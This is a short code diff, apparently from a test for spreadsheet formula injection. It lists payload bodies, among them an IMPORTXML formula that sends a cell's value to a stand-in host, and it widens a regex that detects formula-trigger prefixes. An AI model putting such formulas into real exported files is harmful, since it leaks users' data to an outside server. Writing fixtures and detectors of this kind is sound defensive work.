@@ -17,7 +17,7 @@ const BODIES = [
   `IMPORTXML(CONCAT("http://x.example/",A1),"//a")`,
 ];
 /** What a spreadsheet takes for the beginning of something to run, behind what it does not show. */
-const ACTIVE = /^(?:[\t\r\n]|[\s\p{Cc}\u200b-\u200f\u2060]*[=+\-@＝＋－＠])/u;
+const ACTIVE = /^(?:[\t\r\n]|[\s\p{Cc}\u200b-\u200f\u2060]*[=+\-@|%＝＋－＠])/u;
 
 const payload = (n: number) => {
   const [front, sign, body] = [
